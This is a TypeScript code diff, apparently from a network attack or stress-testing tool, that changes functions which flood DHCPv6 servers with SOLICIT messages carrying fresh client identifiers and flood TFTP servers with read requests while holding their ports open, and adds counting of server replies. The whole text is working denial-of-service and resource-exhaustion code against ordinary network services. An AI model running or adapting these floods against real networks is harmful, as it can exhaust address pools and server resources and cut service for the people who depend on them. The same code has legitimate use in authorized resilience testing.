@@ -25,11 +25,11 @@ export interface AttackResult {
   detail?: string;
 }
 
-const bound = (type: 'udp4' | 'udp6', address: string): Promise<Socket> =>
+const bound = (type: 'udp4' | 'udp6', address: string, port = 0): Promise<Socket> =>
   new Promise((resolve, reject) => {
     const s = createSocket({ type });
     s.once('error', reject);
-    s.bind(0, address, () => {
+    s.bind(port, address, () => {
       s.off('error', reject);
       s.on('error', () => undefined);
       resolve(s);
@@ -67,7 +67,10 @@ export async function dhcp4DiscoverFlood(source: string, fill: Budget | undefine
 
 /** SOLICITs, each with a new DUID-LL and an IA_NA, to All_DHCP_Relay_Agents_and_Servers. */
 export async function dhcp6SolicitFlood(source: string, zone: string, b: Budget): Promise<AttackResult> {
-  const s = await bound('udp6', `${source}%${zone}`);
+  // Port 546: a server that answers to the client port rather than the source port is counted too.
+  const s = await bound('udp6', `${source}%${zone}`, 546);
+  let answered = 0;
+  s.on('message', () => void answered++);
   const prefix = randomBytes(1)[0]!;
   const ia = encodeIaNa({ iaid: 1, t1: 0, t2: 0, addresses: [], options: [] });
   let errors = 0;
@@ -76,8 +79,10 @@ export async function dhcp6SolicitFlood(source: string, zone: string, b: Budget)
     const m = { type: Dhcp6MessageType.SOLICIT, transactionId: i & 0xffffff, options: [{ code: Dhcp6Option.CLIENTID, data: duid }, { code: Dhcp6Option.IA_NA, data: ia }] };
     s.send(encodeDhcp6(m), 547, `ff02::1:2%${zone}`, (e) => e && errors++);
   });
+  // Answers still in flight when the sending stops.
+  await sleep(300);
   s.close();
-  return { sent, errors };
+  return { sent, errors, detail: `${answered} answered` };
 }
 
 /**
@@ -87,6 +92,7 @@ export async function dhcp6SolicitFlood(source: string, zone: string, b: Budget)
 export async function tftpRrqFlood(server: string, source: string, file: string, b: Budget): Promise<AttackResult> {
   const sockets: Socket[] = [];
   let errors = 0;
+  let answered = 0;
   const opening: Promise<void>[] = [];
   const sent = await paced(b.rate, b.count, b.durationMs, (i) => {
     const rrq = encodeTftp({ op: 'rrq', filename: file, mode: 'octet', options: i % 2 === 1 ? [{ name: 'timeout', value: '255' }] : [] });
@@ -94,6 +100,7 @@ export async function tftpRrqFlood(server: string, source: string, file: string,
       bound('udp4', source).then(
         (s) => {
           sockets.push(s);
+          s.once('message', () => void answered++);
           s.send(rrq, 69, server, (e) => e && errors++);
         },
         () => void errors++,
@@ -104,7 +111,7 @@ export async function tftpRrqFlood(server: string, source: string, file: string,
   // Hold the ports until the flood's time is up: the transfers stay live on the server.
   await sleep(Math.max(0, b.durationMs - 50 - sent / b.rate * 1000));
   for (const s of sockets) s.close();
-  return { sent, errors, detail: `${sockets.length} ports held` };
+  return { sent, errors, detail: `${sockets.length} ports held, ${answered} answered` };
 }
 
 export interface HttpAttack {
